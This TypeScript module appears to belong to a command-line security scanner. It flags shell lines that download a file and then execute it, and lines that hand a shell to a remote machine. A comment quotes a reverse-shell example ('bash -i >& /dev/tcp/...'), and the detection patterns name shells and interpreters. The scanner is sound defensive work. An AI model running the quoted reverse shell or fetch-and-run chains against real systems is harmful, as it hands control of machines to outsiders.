import { basename } from 'node:path';
import { type Finding, finding } from '../finding.ts';

interface Part {
  readonly text: string;
  /** Of a command; a redirection has none, and stands before the command it belongs to. */
  readonly words?: readonly string[];
  readonly findings: readonly Finding[];
}

const SHELL = /^(.*\/)?(ba|da|z|k|a|fi)?sh$/;
const RUNS_FILES = /^(.*\/)?((ba|da|z|k|a|fi)?sh|source|\.|python[\d.]*|node|nodejs|bun|deno|perl|ruby|php)$/;

/** Parts of a line that are something else together than each of them alone. */
export const judgeJoined = (parts: readonly Part[]): Finding[] => [
  ...runsFetched(parts),
  ...handsOverShell(parts),
];

/** A file that one part fetches and a later one runs. */
function runsFetched(parts: readonly Part[]): Finding[] {
  if (!parts.some(isNetwork)) return [];
  const fetched = new Set(
    parts.filter(isOutput).map(({ text }) => nameOf(text.replace(/^\d*&?>+[|&]?[ \t]*/, ''))),
  );
  let hasFetched = false;
  for (const part of parts) {
    const [program = '', ...args] = part.words ?? [];
    const first = args.find((word) => !word.startsWith('-'));
    const run = program.includes('/') ? [program, first] : [first];
    const isRun = (program.includes('/') || RUNS_FILES.test(program)) && run.some(isIn(fetched));
    if (hasFetched && isRun) return [finding('CRITICAL', 'It runs what it has fetched from another machine')];
    if (!isNetwork(part)) continue;
    hasFetched = true;
    for (const word of args) fetched.add(nameOf(word));
  }
  return [];
}

const isNetwork = ({ findings }: Part): boolean => findings.some((one) => one.isNetwork);
const isOutput = ({ words, text }: Part): boolean => words === undefined && /^\d*&?>/.test(text);

const isIn =
  (names: ReadonlySet<string>) =>
  (word: string | undefined): boolean =>
    word !== undefined && names.has(nameOf(word));

/** `x.sh` of `https://a/x.sh?b`, `-ox.sh` is left to its own fate, `--output=x.sh`, `./x.sh`. */
const nameOf = (word: string): string =>
  basename(word.replace(/^--?[\w-]+=/, '').replace(/[?#].*$/s, '')) || '/';

/** `bash -i >& /dev/tcp/a/1`: the other end types into it. */
function handsOverShell(parts: readonly Part[]): Finding[] {
  const isHanded = parts.some(({ text, words }, i) => {
    if (words !== undefined || !/\/dev\/(tcp|udp)\//.test(text)) return false;
    const [program = '', ...args] = parts.slice(i).find((part) => part.words)?.words ?? [];
    return SHELL.test(program) && !args.some((word) => /^-[a-z]*c/.test(word));
  });
  return isHanded ? [finding('CRITICAL', 'It gives another machine a shell')] : [];
}
